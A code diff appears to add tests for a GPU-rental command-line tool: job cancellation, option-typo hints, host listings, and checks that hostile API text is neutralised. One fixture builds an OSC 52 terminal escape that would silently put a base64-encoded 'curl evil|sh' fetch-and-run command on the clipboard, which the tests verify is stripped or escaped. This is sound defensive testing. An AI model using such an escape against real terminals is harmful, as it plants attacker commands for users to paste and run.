@@ -210,3 +210,86 @@ describe('errors and exit codes', () => {
     expect(unknownFlag.stderr).toContain("Unknown option '--colour'");
   });
 });
+
+describe('hostile text from the API stays inert', () => {
+  // OSC 52 asks the terminal to put base64 text on the clipboard: here `curl evil|sh`.
+  const osc52 = '\x1b]52;c;Y3VybCBldmlsfHNo\x07';
+  const controls = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;
+  const offer = { hostId: 'host_1', gpuModel: `RTX 4090${osc52}`, vramMb: 24564, availableGpus: 1, pricePerGpuHour: '0.450000', region: 'eu-west', runtimes: ['docker'], reliability: 1, multiHost: false };
+
+  it('strips control characters (C0, DEL, C1) from tables and details, keeping the rest of the text', async () => {
+    const offers = await run(['offers'], { 'GET /v1/offers': [{ body: { items: [offer] } }] });
+    const get = await run(['jobs', 'get', 'job_1'], { 'GET /v1/jobs/job_1': [{ body: { ...job('queued', `no host\x9b2J\x7f${osc52}`), name: 'a\rb' } }] });
+
+    expect(offers.stdout).not.toMatch(controls);
+    expect(offers.stdout).toContain('RTX 4090]52;c;Y3VybCBldmlsfHNo');
+    expect(get.stdout).not.toMatch(controls);
+    expect(get.stdout).toContain('Status:       queued (no host2J]52;c;Y3VybCBldmlsfHNo)');
+    expect(get.stdout).toContain('Name:         ab\n');
+  });
+
+  it('keeps --json lossless: the same values, with DEL and C1 escaped as well as C0', async () => {
+    const result = await run(['offers', '--json'], { 'GET /v1/offers': [{ body: { items: [{ ...offer, region: 'eu\x9b\x7f' }] } }] });
+
+    expect(result.stdout).not.toMatch(controls);
+    expect(JSON.parse(result.stdout)[0]).toMatchObject({ gpuModel: offer.gpuModel, region: 'eu\x9b\x7f' });
+  });
+
+  it('shows a log line with its tabs and newlines, and every other control character escaped', async () => {
+    const result = await run(['logs', 'job_1'], {
+      'GET /v1/jobs/job_1/logs': [{ body: { items: [chunk(0, 'stdout', `col1\tcol2\r\n${osc52}bell\x07\x9b\n`), chunk(1, 'stderr', 'err\x1b[31m\n')], nextSince: 'c1', truncated: false, complete: true } }],
+    });
+
+    expect(result.code).toBe(0);
+    expect(result.stdout).toBe('col1\tcol2\\x0d\n\\x1b]52;c;Y3VybCBldmlsfHNo\\x07bell\\x07\\x9b\n');
+    expect(result.stderr).toBe('err\\x1b[31m\n');
+  });
+
+  it('strips control characters from API error messages and fields', async () => {
+    const result = await run(['jobs', 'get', 'job_1'], { 'GET /v1/jobs/job_1': [{ status: 404, body: { error: { code: 'not_found', message: `No job${osc52}.`, details: [{ field: `x${osc52}`, message: 'm' }] } } }] });
+
+    expect(result.code).toBe(3);
+    expect(result.stderr).not.toMatch(controls);
+  });
+});
+
+describe('gpuhive jobs cancel', () => {
+  it('says a job that already ended was not cancelled, and exits 7', async () => {
+    const ended = await run(['jobs', 'cancel', 'job_1'], { 'POST /v1/jobs/job_1/cancel': [{ status: 202, body: { jobId: 'job_1', status: 'succeeded' } }] });
+    const running = await run(['jobs', 'cancel', 'job_1'], { 'POST /v1/jobs/job_1/cancel': [{ status: 202, body: { jobId: 'job_1', status: 'running' } }] });
+
+    expect(ended.code).toBe(7);
+    expect(ended.stdout).toBe('job_1 already ended (succeeded): nothing to cancel.\n');
+    expect(running.code).toBe(0);
+    expect(running.stdout).toBe('job_1: cancelling (running).\n');
+  });
+});
+
+describe('gpuhive usage errors', () => {
+  it("suggests the nearest option for a mistyped one: '--gpu' is '--gpus'", async () => {
+    const typo = await run(['jobs', 'submit', '--gpu', '1', '--max-price', '0.5', '--', 'true'], {});
+    const farOff = await run(['offers', '--colour', 'red'], {});
+
+    expect(typo.code).toBe(2);
+    expect(typo.stderr).toContain("Unknown option '--gpu'. Did you mean '--gpus'?");
+    expect(farOff.stderr).not.toContain('Did you mean');
+  });
+});
+
+describe('gpuhive hosts', () => {
+  const host = (status: string, acceptsWork: boolean, listed = true) => ({
+    hostId: `host_${status}`, hostname: 'rig', status, listed, acceptsWork, draining: false, statusReason: null, gpus: [{ model: 'RTX 4090', vramMb: 24564 }],
+    pricePerGpuHour: '0.450000', region: 'eu-west', lastHeartbeatAt: '2026-11-25T10:00:00.000Z', reliability: 0.05,
+  });
+
+  it('shows a listed host as offered only while it takes work: not when unreachable or offline', async () => {
+    const result = await run(['hosts'], { 'GET /v1/hosts': [{ body: { items: [host('online', true), host('unreachable', false), host('offline', false), host('online', false, false)], nextCursor: null } }] });
+
+    expect(result.code).toBe(0);
+    expect(result.stdout.split('\n')[0]).toMatch(/\bOFFERED\b/);
+    expect(result.stdout).toMatch(/host_online\s.*\seu-west\s+yes\s+5\.0%/);
+    expect(result.stdout).toMatch(/host_unreachable\s.*\seu-west\s+no\s+5\.0%/);
+    expect(result.stdout).toMatch(/host_offline\s.*\seu-west\s+no\s+5\.0%/);
+    expect(result.stdout).toMatch(/\seu-west\s+no \(unlisted\)\s+5\.0%/);
+  });
+});
